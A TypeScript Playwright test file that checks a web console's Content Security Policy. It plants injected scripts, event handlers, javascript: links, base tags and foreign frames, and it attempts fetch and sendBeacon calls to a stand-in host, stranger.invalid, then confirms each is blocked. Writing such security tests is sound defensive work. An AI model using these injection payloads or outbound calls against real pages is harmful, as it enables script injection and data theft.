import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { scan } from "../journey/files.ts";
import { chromiumPath } from "../support/chromium.ts";
import { pdf } from "../support/document-builders.ts";
import { people } from "../support/people.ts";
import { addressOf, visitedScreens } from "./support/addresses.ts";
import { type ConsoleInBrowser, settled, startConsole } from "./support/console-in-browser.ts";

describe.runIf(chromiumPath !== undefined)("under the policy that it is served with", () => {
  let system: ConsoleInBrowser;
  let evidenceId: string;
  beforeAll(async () => {
    system = await startConsole();
    const office = await system.api(people.office);
    ({ evidenceId } = await office.file("140524", scan(["1.1-1"])));
  });
  afterAll(() => system.stop());

  test.each(visitedScreens)("$pattern is drawn, and nothing is complained of", async (screen) => {
    const { pattern, who } = screen;
    // A new address needs somebody who works there
    if (who === undefined) throw new Error(`who works at ${pattern} is not said`);
    const { page, trouble, context } = await system.open(
      people[who],
      addressOf(pattern, evidenceId),
    );
    await settled(page);

    expect(await page.locator("main .notice-bad").allTextContents()).toStrictEqual([]);
    expect(trouble).toStrictEqual([]);
    await context.close();
  });

  test("a scan and a paper are shown from where evidence is, and nothing is complained of", async () => {
    const office = await system.api(people.office);
    const paper = await office.file("140524", {
      ...scan(["1.1-2"]),
      bytes: pdf(),
      fileName: "paper.pdf",
      contentType: "application/pdf",
    });
    const store = new URL(system.host.uploadUrl).origin;
    const shownOn = async (id: string, selector: string) => {
      const at = addressOf("/console/c/:county/evidence/:evidenceId", id);
      const { page, trouble, context } = await system.open(people.office, at);
      const address = await page.locator(`${selector}[src^="${store}"]`).getAttribute("src");
      const answer = await page.request.get(address ?? "");
      await settled(page);
      await context.close();
      return { status: answer.status(), trouble };
    };

    expect(await shownOn(evidenceId, "img")).toStrictEqual({ status: 200, trouble: [] });
    expect(await shownOn(paper.evidenceId, "iframe")).toStrictEqual({ status: 200, trouble: [] });
  });

  test("what somebody planted in the start page does not run and is not drawn", async () => {
    const { page, trouble, context } = await planted(
      `<script>document.title = "planted"; window.planted = "inline";</script>
      <script src="data:text/javascript,window.planted='data'"></script>
      <script src="http://stranger.invalid/x.js"></script>
      <style>body { display: none }</style>
      <p id="styled" style="position: fixed">x</p>
      <img src="/console/none.png" onerror="window.planted = 'handler'">
      <a id="link" href="javascript:window.planted='link'">x</a>
      <base href="http://stranger.invalid/">
      <object data="/console/icon.svg"></object>
      <iframe src="http://stranger.invalid/"></iframe>`,
    );
    await page.locator("#link").click();

    expect(await page.evaluate("window.planted")).toBeUndefined();
    expect(await page.locator("body").isVisible()).toBe(true);
    expect(await styleOf(page, "#styled")).toBe("static");
    expect(breaches(trouble)).toStrictEqual([
      "base-uri",
      "frame-src",
      "object-src",
      "script-src-attr",
      "script-src-elem",
      "style-src-attr",
      "style-src-elem",
    ]);
    await context.close();
  });

  test("a string becomes neither markup nor code", async () => {
    const { page, context } = await system.open(people.office, "/console");

    for (const attempt of [
      "document.body.insertAdjacentHTML('beforeend', '<p id=x>x</p>')",
      "document.querySelector('h1').innerHTML = '<b>x</b>'",
      "setTimeout('window.planted = 1')",
      "new Worker('/console/assets/none.js')",
      "document.createElement('script').src = '/console/assets/none.js'",
    ])
      await expect(page.evaluate(attempt), attempt).rejects.toThrow(/Trusted|Content Security/);
    await context.close();
  });

  test("nothing is sent to anybody but the API and the store of evidence", async () => {
    const { page, trouble, context } = await system.open(people.office, "/console");
    const reaches = (url: string) =>
      page.evaluate(
        (address) =>
          fetch(address, { mode: "no-cors" }).then(
            () => true,
            () => false,
          ),
        url,
      );
    const neighbour = new URL(system.host.apiUrl);
    neighbour.port = String(Number(neighbour.port) + 1);

    expect(await reaches("/console/config.json")).toBe(true);
    expect(await reaches(system.host.uploadUrl)).toBe(true);
    expect(await reaches(neighbour.href)).toBe(false);
    expect(await reaches("http://stranger.invalid/")).toBe(false);
    expect(await page.evaluate("navigator.sendBeacon('http://stranger.invalid/', 'x')")).toBe(true);
    expect(breaches(trouble)).toStrictEqual(["connect-src"]);
    await context.close();
  });

  test("nobody shows it in a frame of his own", async () => {
    const { page, context } = await system.open(people.office, "/console");
    await page.route("http://stranger.test/", (route) =>
      route.fulfill({
        contentType: "text/html",
        body: `<iframe src="${system.host.apiUrl}/console"></iframe>`,
      }),
    );

    await page.goto("http://stranger.test/");

    const framed = page.frames().find((frame) => frame !== page.mainFrame());
    expect(await framed?.locator("#page").count()).toBe(0);
    await context.close();
  });

  /** The page with something in its start page that is not of ours; its headers are as they are. */
  const planted = async (markup: string) => {
    const opened = await system.open(people.office, "/console");
    await opened.page.route("**/console", async (route) => {
      const answer = await route.fetch();
      const body = (await answer.text()).replace("</body>", `${markup}</body>`);
      await route.fulfill({ response: answer, body });
    });
    await opened.page.reload();
    await settled(opened.page);
    return opened;
  };
});

/** The parts of the policy that the browser held, as it told the page. */
const breaches = (trouble: readonly string[]): readonly string[] => {
  const told = trouble.flatMap((line) => /^error: policy: (\S+)/.exec(line)?.[1] ?? []);
  return [...new Set(told)].toSorted();
};

const styleOf = (page: Page, selector: string): Promise<unknown> =>
  page.evaluate(`getComputedStyle(document.querySelector("${selector}")).position`);
